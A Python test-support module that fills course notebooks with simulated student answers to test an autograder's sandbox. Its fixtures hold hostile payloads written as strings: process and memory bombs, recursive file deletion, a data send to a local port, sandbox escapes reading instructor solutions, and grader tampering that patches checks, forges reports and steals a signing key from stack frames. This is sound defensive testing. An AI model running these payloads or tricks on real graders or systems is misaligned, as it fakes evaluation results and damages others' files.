"""Simulated students: answer sets for a session's notebook, and filling a notebook with them.

A student is ``{"answers": {exercise id: answer-cell source, or None for the untouched
stub}, "edit_tests": bool}``. The sources are the kit's own: the reference, the correct
alternatives and the mutants kept under ``tests/``, and a few broken or hostile variants.
"""
from __future__ import annotations

from pathlib import Path

import nbformat

from coursekit.answers import inline_reference, override, strip_docstring

ROUNDTRIP_SESSION = "session03"  # the round trip and the benchmark run on it
FIRST = "ex01_simple_mlp"  # the exercise its broken and hostile students break
# The exercise hostile students leave untouched: its training costs as much as the other six
# exercises' checks together, and its stub still earning nothing shows that an attack hands
# no points to a cell it never touched (the others, answered, show it takes none away).
LEFT_UNTOUCHED = "ex02_promoter_classifier"


def reference_answer(root: Path, session_id: str, exercise_id: str) -> str:
    return strip_docstring((root / "reference" / session_id / f"{exercise_id}.py").read_text())


def _kept(root: Path, kind: str, session_id: str, exercise_id: str) -> list[str]:
    """Answer sources of the mutants or alternatives kept for one exercise, in name order."""
    folder = root / "tests" / kind / session_id / exercise_id
    return [inline_reference(p.read_text(), root) for p in sorted(folder.glob("*.py"))]


def scenarios(root: Path, session) -> dict[str, dict]:
    """The round trip's students.

    Every session has the reference, the untouched stub, a wrong solution (a mutant per
    exercise) and edited test cells; the round-trip session also has three that break its
    ``SimpleMLP`` exercise.
    """
    ids = [e.id for e in session.exercises]
    ref = {e: reference_answer(root, session.id, e) for e in ids}
    students = {
        "reference": {"answers": ref},
        "untouched": {"answers": dict.fromkeys(ids)},
        "wrong": {"answers": {e: _kept(root, "mutants", session.id, e)[0] for e in ids}},
        "edited_tests": {"answers": dict.fromkeys(ids), "edit_tests": True},
    }
    if session.id != ROUNDTRIP_SESSION:
        return students
    students.update({
        "endless_loop": {"answers": {**ref, FIRST: endless_loop(ref[FIRST])}},
        "sys_exit": {"answers": {**ref, FIRST: ref[FIRST] + "\n\ndef train(*args, **kwargs):\n"
                                 "    import sys\n    sys.exit()\n"}},
        "raises_at_import": {"answers": {
            **ref, FIRST: "raise RuntimeError('half-finished cell')\n\n" + ref[FIRST]}},
    })
    return students


def endless_loop(reference: str) -> str:
    """The first exercise's reference whose ``SimpleMLP.forward`` never returns."""
    return override(reference, "SimpleMLP", "forward", "while True:\n    pass")


def bench_class(root: Path, session, size: int = 20) -> dict[str, dict]:
    """A class of ``size`` varied submissions: the reference, the correct alternatives, the
    untouched stub, half-done work, one endless loop, and the rest wrong in different ways
    (student k takes, for each exercise, mutant number k of that exercise)."""
    ids = [e.id for e in session.exercises]
    ref = {e: reference_answer(root, session.id, e) for e in ids}
    alternatives = {e: _kept(root, "alternatives", session.id, e) for e in ids}
    mutants = {e: _kept(root, "mutants", session.id, e) for e in ids}
    students = {"reference": {"answers": ref}}
    for k in range(max(len(a) for a in alternatives.values())):
        students[f"alternative_{k + 1}"] = {"answers": {
            e: alternatives[e][k] if k < len(alternatives[e]) else ref[e] for e in ids}}
    half = len(ids) // 2
    students["untouched"] = {"answers": dict.fromkeys(ids)}
    students["half_done"] = {"answers": {e: ref[e] if i < half else None for i, e in enumerate(ids)}}
    if session.id == ROUNDTRIP_SESSION:
        students["endless_loop"] = {"answers": {**ref, FIRST: endless_loop(ref[FIRST])}}
    k = 0
    while len(students) < size:
        students[f"wrong_{k + 1:02d}"] = {"answers": {e: mutants[e][k % len(mutants[e])] for e in ids}}
        k += 1
    return students


HOSTILE = {  # name: (where in the first exercise, what the code does)
    "hang_at_import": ("import", "import time\nwhile True:\n    try:\n        time.sleep(1)\n"
                                 "    except BaseException:\n        pass"),
    "flood_at_import": ("import", "while True:\n    print('flood ' * 1000)"),
    "exit_in_check": ("forward", "import os\nos._exit(3)"),
    "segfault_in_check": ("forward", "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"),
    "memory_bomb_in_check": ("forward", "hoard = []\nwhile True:\n    hoard.append(bytearray(2**27))"),
}


def hostile_class(root: Path, session) -> dict[str, dict]:
    """The reference, and one student per :data:`HOSTILE` behaviour, each with the reference
    everywhere else but :data:`LEFT_UNTOUCHED`: the behaviour runs when the first exercise's
    cell starts ("import", before its definitions, so that whether it is interrupted or killed
    it leaves them undefined) or inside its ``SimpleMLP.forward`` ("forward"), in the round-trip session."""
    ids = [e.id for e in session.exercises]
    ref = {e: reference_answer(root, session.id, e) for e in ids}
    students = {"reference": {"answers": ref}}
    for name, (where, code) in HOSTILE.items():
        broken = (override(ref[FIRST], "SimpleMLP", "forward", code) if where == "forward"
                  else code + "\n\n" + ref[FIRST])
        students[name] = {"answers": {**ref, FIRST: broken, LEFT_UNTOUCHED: None}}
    return students


def escape_attempts(root: Path, course_dir: Path, port: int, tag: str) -> dict[str, tuple[bool, str]]:
    """Code that tries to get out of the grading sandbox, by name: (whether it replaces the
    first exercise's answer, the code). ``port``: a TCP port on 127.0.0.1 that must hear
    nothing; ``tag``: a word in the command line of every process the attempts start, and
    in the name of every file they try to plant."""
    reference = root / "reference" / ROUNDTRIP_SESSION / f"{FIRST}.py"
    return {
        # no answer of its own: the solution read from the instructor's disk
        "reads_the_reference": (True, f"exec(open({str(reference)!r}).read())"),
        "imports_the_reference": (True, f"import sys\nsys.path.insert(0, {str(root)!r})\n"
                                        f"from reference.{ROUNDTRIP_SESSION}.{FIRST} import *"),
        # the honest answer, plus an attempt that fails quietly if it is stopped
        "plants_code_in_the_kit": (False, "try:\n"
                                          f"    open({str(root / 'coursekit' / f'{tag}.py')!r}, 'w')"
                                          ".write('GRADE = 100')\nexcept OSError:\n    pass"),
        "sabotages_classmates": (False, "import glob, os\n"
                                        f"for path in glob.glob({str(course_dir)!r} + '/**/*.*', "
                                        "recursive=True):\n"
                                        "    try:\n        os.remove(path)\n"
                                        "    except OSError:\n        pass"),
        "phones_home": (False, "import socket\ntry:\n"
                               f"    socket.create_connection(('127.0.0.1', {port}), timeout=2)"
                               ".sendall(b'answers')\nexcept OSError:\n    pass"),
        "leaves_an_orphan": (False, "import subprocess\n"
                                    f"subprocess.Popen(['setsid', 'sleep', '{tag}'])"),
        "floods_processes": (False, "import subprocess\n"
                                    f"children = [subprocess.Popen(['sleep', '{tag}']) for _ in range(100)]"),
    }


TAMPERING = {  # name: code appended to an answer, replacing what the checks compare with
    "patches_torch": "import torch\ntorch.allclose = lambda *a, **k: True\n"
                     "torch.equal = lambda *a, **k: True\n"
                     "torch.testing.assert_close = lambda *a, **k: None",
    "patches_tensor_equality": "import torch\ntorch.Tensor.__eq__ = lambda self, other: True",
    "patches_the_checks": "import coursekit.checks\n"
                          "for _name in ('expect', 'expect_close', 'expect_tensor'):\n"
                          "    setattr(coursekit.checks, _name, lambda *a, **k: None)",
    "patches_builtins": "import builtins\nbuiltins.isinstance = lambda obj, kind: True",
    # the detector itself first, then the tools
    "patches_the_detector": "import torch, coursekit.tamper\n"
                            "coursekit.tamper.verdict = lambda: None\n"
                            "coursekit.tamper.changed = lambda: []\n"
                            "torch.allclose = lambda *a, **k: True\n"
                            "torch.testing.assert_close = lambda *a, **k: None",
    "patches_pytest": "import pytest\npytest.approx = lambda expected, *a, **k: expected\n"
                      "import _pytest.python_api\n_pytest.python_api.approx = pytest.approx",
    # a global that shadows a builtin inside the kit's checks (no name is replaced)
    "shadows_a_builtin_in_the_checks": "import coursekit.checks.base as _base\n"
                                       "_base.isinstance = lambda obj, kind: True\n"
                                       "_base.abs = lambda x: 0",
    "swaps_the_code_of_a_check": "import coursekit.checks.base as _base\n"
                                 "_base.expect_close.__code__ = (lambda *a, **k: None).__code__",
    # a report of its own, in every shape the kit's processes have used, on every pipe
    "forges_its_report": "import json as _json, os as _os\n"
                         "for _claim in ({'done': 0, 'outputs': []}, {'sealed': '00', 'mac': '00'},\n"
                         "               ['passed', '', ''], {'finished': True}):\n"
                         "    _data = _json.dumps(_claim).encode()\n"
                         "    for _fd in range(3, 64):\n"
                         "        try:\n"
                         "            _os.write(_fd, len(_data).to_bytes(4, 'big') + _data)\n"
                         "        except OSError:\n"
                         "            pass",
    # the grading process's frames searched for its key, then a report sealed with it
    "seals_with_a_stolen_key": "import sys as _sys, hashlib as _h, marshal as _m, os as _os, json as _j\n"
                               "_frame, _keys = _sys._getframe(), []\n"
                               "while _frame is not None:\n"
                               "    for _v in list(_frame.f_locals.values()):\n"
                               "        if type(_v) is list and len(_v) > 0 and type(_v[0]) is bytes:\n"
                               "            _keys.append(_v[0])\n"
                               "        if type(_v) is bytes and len(_v) == 32:\n"
                               "            _keys.append(_v)\n"
                               "    _frame = _frame.f_back\n"
                               "for _key in _keys or [b'0' * 32]:\n"
                               "    _msg = _m.dumps(('outcome', 0, ('', 'passed', '', ''), ()))\n"
                               "    _mac = _h.blake2b(_msg, key=_key, digest_size=32).hexdigest()\n"
                               "    _body = _j.dumps({'sealed': _msg.hex(), 'mac': _mac}).encode()\n"
                               "    for _fd in range(3, 64):\n"
                               "        try:\n"
                               "            _os.write(_fd, len(_body).to_bytes(4, 'big') + _body)\n"
                               "        except OSError:\n"
                               "            pass",
    "reads_memory_with_ctypes": "import ctypes\nctypes.string_at(id(ctypes), 16)",
}


LIES = {  # name: code appended to a stub, making each of its functions and classes end a check
    # with an outcome of its own (or answer with a lying tensor)
    "raises_a_pass": "from coursekit.isolated import Judged as _Judged\n"
                     "from coursekit.outcome import Outcome as _Outcome\n"
                     "def _end(*args, **kwargs):\n"
                     "    raise _Judged(_Outcome('passed'))",
    "skips_its_checks": "def _end(*args, **kwargs):\n"
                        "    import pytest\n"
                        "    pytest.skip('nothing to grade here')",
    # a tensor that answers every operation, shape question and == with what a check trusts
    "returns_a_lying_tensor": "import torch as _torch\n"
                              "class _Liar(_torch.Tensor):\n"
                              "    @classmethod\n"
                              "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
                              "        return _torch.zeros(1)\n"
                              "    def __eq__(self, other):\n"
                              "        return True\n"
                              "def _end(*args, **kwargs):\n"
                              "    return _torch.zeros(2).as_subclass(_Liar)\n"
                              "def _init(self, *args, **kwargs):\n"
                              "    _torch.nn.Module.__init__(self)",
}
_LIE_EVERYWHERE = ("\nfor _name, _value in list(globals().items()):\n"
                   "    if not _name.startswith('_') and getattr(_value, '__module__', None) == __name__:\n"
                   "        if isinstance(_value, type):\n"
                   "            _value.__init__ = globals().get('_init', _end)\n"
                   "            _value.forward = _end\n"
                   "        elif callable(_value):\n"
                   "            globals()[_name] = _end\n")


def lying_answer(stub: str, lie: str) -> str:
    """``stub`` whose functions (and classes' constructors and ``forward``) all end a check
    with ``LIES[lie]``."""
    return stub + "\n\n" + LIES[lie] + _LIE_EVERYWHERE


def escaping_class(root: Path, session, attempts: dict) -> dict[str, dict]:
    """The reference, and one student per escape attempt, with the reference everywhere
    else but :data:`LEFT_UNTOUCHED` (the attempt replaces, or follows, the first exercise's
    answer)."""
    ref = {e.id: reference_answer(root, session.id, e.id) for e in session.exercises}
    students = {"reference": {"answers": ref}}
    for name, (replaces, code) in attempts.items():
        first = code if replaces else ref[FIRST] + "\n\n" + code + "\n"
        students[name] = {"answers": {**ref, FIRST: first, LEFT_UNTOUCHED: None}}
    return students


def submit(course_dir: Path, assignment: str, students: dict) -> None:
    """Each student's filled copy of the released notebook and a submission time, straight
    into ``submitted/`` (as ``nbgrader collect`` leaves them; nbgrader adds the students when
    it grades)."""
    import shutil
    from datetime import datetime, timezone

    released = course_dir / "release" / assignment / f"{assignment}.ipynb"
    stamp = datetime.now(timezone.utc).strftime("%Y-%m-%d %H:%M:%S.%f %Z")
    for sid, plan in students.items():
        notebook = course_dir / "submitted" / sid / assignment / f"{assignment}.ipynb"
        notebook.parent.mkdir(parents=True)
        shutil.copy(released, notebook)
        fill_notebook(notebook, plan["answers"], plan.get("edit_tests", False))
        (notebook.parent / "timestamp.txt").write_text(stamp)


def fill_notebook(notebook: Path, answers: dict, edit_tests: bool = False) -> None:
    """Put ``answers`` into the answer cells of ``notebook`` (a released copy), in place."""
    nb = nbformat.read(notebook, as_version=4)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        grade_id = meta.get("grade_id", "")
        if meta.get("solution") and grade_id.endswith("_answer"):
            source = answers.get(grade_id[: -len("_answer")])
            if source is not None:
                cell.source = source
        elif meta.get("grade") and edit_tests:
            cell.source = "pass"
    nbformat.write(nb, notebook)
